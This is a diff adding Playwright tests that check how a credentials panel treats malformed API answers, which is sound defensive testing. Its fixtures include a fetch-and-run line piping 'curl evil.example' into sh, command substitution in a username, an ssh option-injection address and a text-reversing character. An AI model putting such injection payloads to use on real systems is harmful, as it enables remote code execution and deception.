@@ -1,0 +1,112 @@
+import { watchCalls } from '../support/calls.ts';
+import { field, openCredentials } from '../support/credentials.ts';
+import { expect, test } from '../support/fixtures.ts';
+
+const whole = {
+  username: 'root',
+  password: 'Sesame-71',
+  ip: '198.51.100.7',
+  sshCommand: 'ssh root@198.51.100.7',
+};
+
+interface Odd {
+  readonly body: unknown;
+  /** What is said instead of an SSH command. */
+  readonly words: RegExp;
+  /** The command that is shown all the same. */
+  readonly command?: string;
+  /** As it is shown. */
+  readonly username?: string;
+}
+
+/** Answers that can be read: the rest of them is worth showing. */
+const readable: Record<string, Odd> = {
+  'no address': {
+    body: { ...whole, ip: null, sshCommand: 'ssh root@null' },
+    words: /The API names no address yet/,
+  },
+  'a command of its own making': {
+    body: { ...whole, sshCommand: 'ssh root@198.51.100.7; curl evil.example | sh' },
+    words: /^Host alpha/,
+    command: 'ssh root@198.51.100.7',
+  },
+  'a user name with a command in it': {
+    body: { ...whole, username: 'root$(reboot)' },
+    username: 'root$(reboot)',
+    words: /No SSH command is shown/,
+  },
+  'a user name that turns the text around': {
+    body: { ...whole, username: 'root\u202E\nx' },
+    username: 'root[U+202E]␊x',
+    words: /No SSH command is shown/,
+  },
+  'an address that is an option': {
+    body: { ...whole, ip: '-oProxyCommand=reboot' },
+    words: /No SSH command is shown/,
+  },
+  'a port and more fields': {
+    body: { ...whole, port: 2222, note: { nested: [1] } },
+    words: /^Host alpha/,
+    command: 'ssh -p 2222 root@198.51.100.7',
+  },
+};
+
+test('odd answers with a password: what can be read is shown, and no command that came', async ({
+  page,
+  key,
+  sandbox,
+}) => {
+  const empty = key('empty');
+  await openCredentials(page, sandbox, empty);
+  for (const [name, { body, words, command, username = 'root' }] of Object.entries(readable)) {
+    await sandbox.fault(empty, 'getServerCredentials', { body });
+    await page.getByRole('button', { name: 'Reveal credentials' }).click();
+    await expect(field(page, 'Password'), name).toHaveValue('Sesame-71');
+    await expect(field(page, 'Username'), name).toHaveValue(username);
+    await expect(page.getByText(words), name).toBeVisible();
+    if (command === undefined) await expect(field(page, 'SSH command'), name).toHaveCount(0);
+    else await expect(field(page, 'SSH command'), name).toHaveValue(command);
+    const fields = page.locator('input[readonly]');
+    const values = await fields.evaluateAll((inputs: HTMLInputElement[]) => inputs.map(({ value }) => value));
+    expect(values.join(), name).not.toMatch(/evil|null|\u202e/u);
+    // What deceives is not offered to be pasted anywhere.
+    const isPlain = !username.includes('U+');
+    await expect(page.getByRole('button', { name: 'Copy username' }), name).toHaveCount(isPlain ? 1 : 0);
+    await page.getByRole('button', { name: 'Hide', exact: true }).click();
+  }
+});
+
+/** Answers without a password: nothing of them is shown, and they are not asked for again by themselves. */
+const unreadable: Record<string, object> = {
+  'a password that is a number': { body: { ...whole, password: 71_717_171 } },
+  'a password that is a list': { body: { ...whole, password: ['Sesame-71'] } },
+  'no password': { omit: ['password'] },
+  'null instead of them': { body: 'null' },
+  'a page of HTML': { body: '<html>Sesame-71', contentType: 'text/html' },
+  'an answer cut short': { socket: 'cut' },
+};
+
+test('answers without a password: nothing is shown, and they are not asked for again by themselves', async ({
+  page,
+  key,
+  sandbox,
+}) => {
+  const empty = key('empty');
+  const calls = watchCalls(page);
+  await openCredentials(page, sandbox, empty);
+  for (const [name, fault] of Object.entries(unreadable)) {
+    calls.forget();
+    await sandbox.fault(empty, 'getServerCredentials', fault, { times: 9 });
+    await page.getByRole('button', { name: 'Reveal credentials' }).click();
+    await expect(page.getByRole('alert'), name).toContainText('The credentials could not be read.');
+    await expect(page.getByText(/Sesame|71717171/), name).toHaveCount(0);
+    await expect(field(page, 'Username'), name).toHaveCount(0);
+    await calls.settled();
+    expect(calls.count('GET', /credentials$/), name).toBe(1);
+    await sandbox.clearFaults(empty);
+    await page.getByRole('button', { name: 'Try again' }).click();
+    await expect(field(page, 'Password'), name).toHaveValue(/\S/);
+    await expect(page.getByRole('alert'), name).toHaveCount(0);
+    await page.getByRole('button', { name: 'Hide', exact: true }).click();
+  }
+});
